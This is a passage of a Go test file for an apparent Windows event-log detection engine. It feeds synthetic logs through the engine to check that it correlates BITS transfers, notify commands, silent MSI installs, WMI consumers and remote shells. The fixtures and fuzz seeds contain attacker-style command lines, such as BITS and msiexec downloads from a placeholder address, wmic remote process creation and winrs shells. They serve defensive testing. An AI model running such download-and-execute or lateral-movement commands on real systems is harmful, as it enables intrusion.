				l.start(3, 1, powershell, `powershell Start-BitsTransfer http://192.0.2.1/b C:\t\b`, explorer)
				l.bits(59, "name", "BITS Transfer", "Id", job, "url", "http://192.0.2.1/b")
			},
			[]string{"powershell.exe requested BITS Transfer B bits-command"},
			[]string{"powershell.exe requested BITS Transfer C bits-command"},
		},
		{
			"a job of another name, or long after: not it", func(l *log) {
				l.start(2, 1, bitsTool, `bitsadmin /create J`, explorer)
				l.bits(3, "string", "K", "string2", `PC\u`)
				l.wait(90)
				l.bits(3, "string", "J", "string2", `PC\u`)
			},
			nil,
			[]string{"bitsadmin.exe requested K B bits-command", "bitsadmin.exe requested J B bits-command"},
		},
		{
			"the fetched file, and what runs from it", func(l *log) {
				l.start(2, 1, `C:\a.exe`, "a", explorer)
				l.bits(16403, "jobTitle", "J", "jobId", job, "RemoteName", "http://192.0.2.1/x", "LocalName", `C:\t\x.exe`, "processId", "1002", "ClientProcessStartKey", fmt.Sprint(uint64(8)<<48|2))
				l.by(11, 9, svchost, "TargetFilename", `C:\t\x.exe`)
				l.start(5, 1, `C:\t\x.exe`, "x", explorer)
			},
			[]string{"a.exe requested J A bits-client", "J wrote x.exe B bits-file", "x.exe executed x.exe B file-written-then-executed"},
			nil,
		},
		{
			"a file that another program wrote is not the job's", func(l *log) {
				l.bits(16403, "jobTitle", "J", "jobId", job, "LocalName", `C:\t\x.exe`)
				l.by(11, 9, `C:\b.exe`, "TargetFilename", `C:\t\x.exe`)
			},
			nil,
			[]string{"J wrote x.exe B bits-file"},
		},
		{
			"what the job runs at its end", func(l *log) {
				l.start(2, 1, bitsTool, `bitsadmin /create J`, explorer)
				l.bits(3, "string", "J", "string2", `PC\u`)
				l.start(3, 1, bitsTool, `bitsadmin /SetNotifyCmdLine J C:\t\x.exe "C:\t\x.exe /q"`, explorer)
				l.wait(300)
				l.below(5, 9, svchost, bitsHost, `C:\t\x.exe`, `C:\t\x.exe /q`)
			},
			[]string{"J ran x.exe B bits-notify"},
			nil,
		},
		{
			"… not another's child", func(l *log) {
				l.bits(3, "string", "J", "string2", `PC\u`)
				l.start(3, 1, bitsTool, `bitsadmin /SetNotifyCmdLine J C:\t\x.exe NULL`, explorer)
				l.below(5, 9, svchost, launcher, `C:\t\x.exe`, `C:\t\x.exe`)
			},
			nil,
			[]string{"J ran x.exe B bits-notify"},
		},
	})
}

func TestInstaller(t *testing.T) {
	server := func(l *log) { l.start(9, 8, msiexec, `C:\Windows\system32\msiexec.exe /V`, services) }
	runHandoffs(t, []handoffCase{
		{
			"the record names the client; the service's children are the transaction's", func(l *log) {
				l.start(2, 1, cmdExe, "cmd", explorer)
				l.start(3, 2, msiexec, `msiexec /i C:\t\evil.msi /qn`, cmdExe)
				server(l)
				l.msi(1040, `C:\t\evil.msi`, "1003", "(NULL)")
				l.start(5, 9, cmdExe, "cmd /c x", msiexec)
				l.msi(1033, "Evil", "1.0")
				l.msi(1042, `C:\t\evil.msi`, "1003", "(NULL)")
			},
			[]string{"cmd.exe started msiexec.exe A parent-guid", "msiexec.exe requested evil.msi A installer-client", "evil.msi ran cmd.exe B installer-child"},
			[]string{"msiexec.exe started cmd.exe A parent-guid"},
		},
		{
			"before it began and after it ended: not it", func(l *log) {
				server(l)
				l.start(4, 9, cmdExe, "cmd /c y", msiexec)
				l.wait(3)
				l.msi(1040, `C:\t\evil.msi`, "1003")
				l.msi(1042, `C:\t\evil.msi`, "1003")
				l.wait(3)
				l.start(5, 9, cmdExe, "cmd /c x", msiexec)
			},
			nil,
			[]string{"evil.msi ran cmd.exe B installer-child"},
		},
		{
			"by the client's command line alone", func(l *log) {
				l.start(3, 2, msiexec, `msiexec.exe /quiet /i "http://192.0.2.1/x y.msi"`, cmdExe)
				server(l)
				l.start(10, 9, msiexec, `C:\Windows\System32\MsiExec.exe -Embedding ABCD`, msiexec)
				l.start(5, 10, cmdExe, "cmd /c x", msiexec)
			},
			[]string{"msiexec.exe requested x y.msi B installer-command", "x y.msi ran cmd.exe B installer-child"},
			nil,
		},
		{
			"two clients at once", func(l *log) {
				l.start(3, 2, msiexec, `msiexec /i C:\a.msi`, cmdExe)
				l.start(4, 2, msiexec, `msiexec /i C:\b.msi`, cmdExe)
				server(l)
				l.start(5, 9, cmdExe, "cmd /c x", msiexec)
			},
			[]string{"a.msi ran cmd.exe C installer-child", "b.msi ran cmd.exe C installer-child"},
			nil,
		},
		{
			"the package that a program of its own asks for", func(l *log) {
				l.start(2, 1, `C:\setup.exe`, "setup", explorer)
				l.by(11, 2, `C:\setup.exe`, "TargetFilename", `C:\t\evil.msi`)
				l.msi(1040, `C:\t\evil.msi`, "1002")
			},
			[]string{"setup.exe requested evil.msi A installer-client", "evil.msi registered evil.msi B installer-package"},
			nil,
		},
	})
}

func TestInstallerPackage(t *testing.T) {
	for cmd, want := range map[string]string{
		`msiexec /i C:\a.msi`: `C:\a.msi`, `msiexec.exe /qn /iC:\a.msi`: `C:\a.msi`, `msiexec /package "C:\a b.msi"`: `C:\a b.msi`,
		`msiexec -x {11111111-2222-3333-4444-555555555555}`: `{11111111-2222-3333-4444-555555555555}`, `msiexec /fa C:\a.msi`: `C:\a.msi`,
		`msiexec /quiet`: "", `msiexec`: "", `msiexec /i`: "",
	} {
		if got, installs := installerPackage(cmd); got != want || installs != (want != "") {
			t.Errorf("%s: %q, %v; want %q", cmd, got, installs, want)
		}
	}
}

func TestScripts(t *testing.T) {
	var l log
	l.start(2, 1, powershell, `"`+powershell+`" -nop -c "x 1"`, explorer)
	l.start(3, 1, powershell, `powershell -c y`, explorer)
	l.start(4, 1, powershell, `powershell -c z`, explorer)
	l.start(5, 1, powershell, `powershell -c z`, explorer)
	classic := func(application string) *event.Event {
		return l.add("PowerShell", "Windows PowerShell", 800, "Data", "New-Service x", "Data", "\tHostName=ConsoleHost\r\n\tHostApplication="+application+"\r\n\tEngineVersion=5", "Data", "d")
	}
	block := l.add("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104, "ScriptBlockText", "New-Service x")
	block.PID = 1003
	module := l.add("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4103, "Payload", "x", "ContextInfo", "Host Version = 5\r\n Host Application = powershell -c y\r\n Engine Version = 5")
	one, two, none := classic(powershell+` -nop -c x 1`), classic("powershell.exe -c z"), classic("powershell -c q")
	g := l.graph()
	for _, c := range []struct {
		e     *event.Event
		pid   uint32
		class Class
	}{{block, 1003, ClassA}, {module, 1003, ClassB}, {one, 1002, ClassB}, {two, 0, ClassB}, {none, 0, ClassB}} {
		p, class := g.scriptProcess(g.world.RecordOf(c.e))
		pid := uint32(0)
		if p != nil {
			pid = p.PID
		}
		if pid != c.pid || class != c.class {
			t.Errorf("%d %q: process %d, class %v; want %d, %v", c.e.ID, c.e.Value("HostApplication"), pid, class, c.pid, c.class)
		}
	}
	if m := g.Mark(one); g.Node(m.Node).Attr("ProcessId") != "1002" {
		t.Errorf("a detection on a classic record marks %s", m.Node)
	}
}

func TestMarksOfUnits(t *testing.T) {
	var l log
	l.start(2, 1, `C:\a.exe`, "a", explorer)
	marks := map[*event.Event]string{}
	at := func(e *event.Event, want string) { marks[e] = want }
	at(l.sysmon(19, "Operation", "Created", "Name", ` "F"`, "Query", ` "select"`), "Bot")
	at(l.sysmon(20, "Operation", "Created", "Name", ` "Bot"`, "Type", "Command Line", "Destination", ` "calc"`), "Bot")
	at(l.sysmon(21, "Operation", "Created", "Consumer", ` "CommandLineEventConsumer.Name=\"Bot\""`, "Filter", ` "__EventFilter.Name=\"F\""`), "Bot")
	at(l.sysmon(19, "Operation", "Created", "Name", ` "Unbound"`, "Query", ` "select"`), "Unbound")
	at(l.sysmon(20, "Operation", "Deleted", "Name", ` "Gone"`, "Type", "Command Line", "Destination", ` "calc"`), "Gone")
	at(l.wmi(5861, "CONSUMER", `CommandLineEventConsumer="Bot"`, "ESS", "F"), "Bot")
	at(l.wmi(5860, "NamespaceName", `root\cimv2`, "Query", "select", "Processid", "1002"), "a.exe")
	at(l.wmi(5858, "ClientProcessId", "1002", "Operation", "Start x"), "a.exe")
	at(l.wmi(5858, "Message", "Id = {0}; ClientMachine = PC; User = u; ClientProcessId = 1002; Operation = Start x; ResultCode = 0x8; PossibleCause = Unknown"), "a.exe")
	at(l.bits(3, "jobTitle", "J", "jobId", "{1}", "processPath", `C:\a.exe`, "processId", "1002"), "J")
	at(l.bits(60, "name", "J", "Id", "{1}", "url", "http://x"), "J")
	at(l.bits(61, "name", "J", "Id", "{1}", "url", "http://x"), "J")
	at(l.bits(61, "name", "Failed", "Id", "{2}", "url", "http://x"), "Failed")
	at(l.msi(1040, `C:\p.msi`, "1002"), "p.msi")
	at(l.msi(1033, "Product", "1"), "p.msi")
	at(l.msi(1042, `C:\p.msi`, "1002"), "p.msi")
	shell := l.add("Microsoft-Windows-WinRM", "Microsoft-Windows-WinRM/Operational", 6, "connection", "b/wsman")
	shell.PID = 1002
	at(shell, "a.exe")
	at(l.add("Microsoft-Windows-WinRM", "Microsoft-Windows-WinRM/Operational", 91), "PC")
	g := l.graph()
	for e, want := range marks {
		m := g.Mark(e)
		if n := g.Node(m.Node); n == nil || n.Label != want {
			t.Errorf("%s %d marks %s, want %s", e.Provider, e.ID, m.Node, want)
		}
	}
	nodes, edges := len(g.nodes), len(g.edges)
	for e := range marks {
		g.Mark(e)
	}
	if len(g.nodes) != nodes || len(g.edges) != edges {
		t.Errorf("marking again makes %d nodes %d and %d edges %d", nodes, len(g.nodes), edges, len(g.edges))
	}
	if n := g.Node(id(WMI, "PC", "consumer|bot")); n == nil || !IsConsumer(n) || n.Attr("CommandLineTemplate") != "calc" || n.Attr("Query") != "select" {
		t.Errorf("the consumer is %+v", n)
	}
}

// joinWord finds the words in the tables of docs/joins.md.
var joinWord = regexp.MustCompile("`([a-z0-9-]+)`")

// documented returns the join words of docs/joins.md, with the classes and rows
// that its table of hand-offs gives them.
func documented(t *testing.T) (words map[string]bool, rows map[string][]string) {
	t.Helper()
	text, err := os.ReadFile(filepath.FromSlash("../../docs/joins.md"))
	if err != nil {
		t.Fatal(err)
	}
	words, rows = map[string]bool{}, map[string][]string{}
	for _, line := range strings.Split(string(text), "\n") {
		cells := strings.Split(line, "|")
		switch {
		case !strings.HasPrefix(line, "|"):
		case len(cells) == 9: // a hand-off
			for _, m := range joinWord.FindAllStringSubmatch(cells[6], -1) {
				words[m[1]] = true
				rows[m[1]] = append(rows[m[1]], strings.TrimSpace(cells[1])+" "+strings.TrimSpace(cells[5]))
			}
		case len(cells) == 4: // an arrow of one record
			for _, m := range joinWord.FindAllStringSubmatch(cells[1], -1) {
				words[m[1]] = true
			}
		}
	}
	return words, rows
}

func TestJoinsAreDocumented(t *testing.T) {
	words, rows := documented(t)
	for i := range handoffs {
		h := &handoffs[i]
		want := strconv.Itoa(h.row) + " " + h.class.String()
		if !slices.Contains(rows[h.join], want) {
			t.Errorf("docs/joins.md has no line for row %d, class %s, join word %s; it has %q", h.row, h.class, h.join, rows[h.join])
		}
	}
	// Of the joins that are methods the words stand in the code.
	inCode := map[string]bool{}
	literals := map[string]bool{}
	fset := token.NewFileSet()
	// Correlations are joined where incidents are made.
	var names []string
	for _, dir := range []string{".", "../incident"} {
		found, err := filepath.Glob(filepath.Join(filepath.FromSlash(dir), "*.go"))
		if err != nil || len(found) == 0 {
			t.Fatalf("no code in %s: %v", dir, err)
		}
		names = append(names, found...)
	}
	text := func(x ast.Expr) string {
		lit, ok := x.(*ast.BasicLit)
		if !ok || lit.Kind != token.STRING {
			return ""
		}
		s, _ := strconv.Unquote(lit.Value)
		return s
	}
	for _, name := range names {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.BasicLit:
				literals[text(n)] = true
			case *ast.CallExpr:
				// Those that are given the word.
				name := ""
				switch f := n.Fun.(type) {
				case *ast.SelectorExpr:
					name = f.Sel.Name
				case *ast.Ident:
					name = f.Name
				}
				for _, arg := range n.Args {
					if w := text(arg); (name == "ran" || name == "registeredFile" || name == "add") && strings.Contains(w, "-") && joinWord.MatchString("`"+w+"`") {
						inCode[w] = true
					}
				}
			case *ast.KeyValueExpr:
				if k, ok := n.Key.(*ast.Ident); ok && k.Name == "join" {
					inCode[text(n.Value)] = true
				}
			case *ast.AssignStmt:
				for i, left := range n.Lhs {
					s, ok := left.(*ast.SelectorExpr)
					id, isIdent := left.(*ast.Ident)
					if (ok && s.Sel.Name == "join" || isIdent && id.Name == "join") && len(n.Rhs) == len(n.Lhs) {
						inCode[text(n.Rhs[i])] = true
					}
				}
			}
			return true
		})
	}
	delete(inCode, "")
	for _, w := range sortedKeys(inCode) {
		if !words[w] {
			t.Errorf("the join word %s is not in docs/joins.md", w)
		}
	}
	for _, w := range sortedKeys(words) {
		// "correlation-" with the field's name after it.
		prefix := w[:strings.LastIndexByte(w, '-')+1]
		if !literals[w] && (prefix == "" || !literals[prefix]) {
			t.Errorf("docs/joins.md has the join word %s, which no join has", w)
		}
	}
	for row := 1; row <= 25; row++ {
		if !slices.ContainsFunc(sortedKeys(rows), func(w string) bool {
			return slices.ContainsFunc(rows[w], func(r string) bool { return strings.HasPrefix(r, strconv.Itoa(row)+" ") })
		}) {
			t.Logf("row %d has no join yet", row)
		}
	}
}

// FuzzReaders gives the readers of command lines and scripts any text: they take
// from it what it holds and nothing else.
func FuzzReaders(f *testing.F) {
	for _, s := range []string{
		`wmic /node:"B" process call create "calc 1"`, `Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'x' -ComputerName Y`,
		`PATH CommandLineEventConsumer CREATE Name="Bot"`, `bitsadmin /transfer J /priority HIGH http://x C:\y`, `bitsadmin /setnotifycmdline J a b`,
		`Start-BitsTransfer http://x C:\y`, `msiexec /iC:\a.msi`, `[type]::GetTypeFromProgID("MMC20.Application", "B")`, `winrs -r:http://x:5985 cmd`,
		`Invoke-Command -ComputerName a,b`, `"CommandLineEventConsumer.Name=\"Bot\""`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		s := &said{text: text, lower: strings.ToLower(text)}
		from := func(what, part string) {
			if part != "" && !strings.Contains(text, part) {
				t.Errorf("%s: %q is not in %q", what, part, text)
			}
		}
		host, command := wmiCreate(s)
		from("wmi host", host)
		from("wmi command", command)
		for _, h := range remoteShellHosts(s) {
			from("shell host", h)
		}
		for _, c := range comClasses(s) {
			from("com host", c.host)
			if !strings.Contains(s.lower, c.class) && !strings.Contains(strings.ToLower(text), c.class) {
				t.Errorf("class %q is not in %q", c.class, text)
			}
		}
		if keys := consumersIn(s); len(keys) > 2*maxCandidates {
			t.Errorf("%d consumers", len(keys))
		}
		for _, k := range consumersIn(s) {
			_, name, _ := strings.Cut(k, "|")
			if !strings.Contains(s.lower, name) {
				t.Errorf("consumer %q is not in %q", name, text)
			}
		}
		bitsAsked(s)
		installerPackage(text)
		if n := len(unquote(text)); n > len(text) {
			t.Errorf("unquote makes %d bytes of %d", n, len(text))
		}
		if !fitsTemplate(text, text) && !strings.Contains(text, "%") {
			t.Errorf("%q does not fit itself", text)
		}
		e := &event.Event{Provider: "Microsoft-Windows-WMI-Activity", ID: 5861, Data: event.Fields{{Name: "Message", Value: text}}}
		normalize.Event(e)
		for _, c := range e.Canon {
			from(c.Name, c.Value)
		}
		world.CachedTask(text)
	})
}
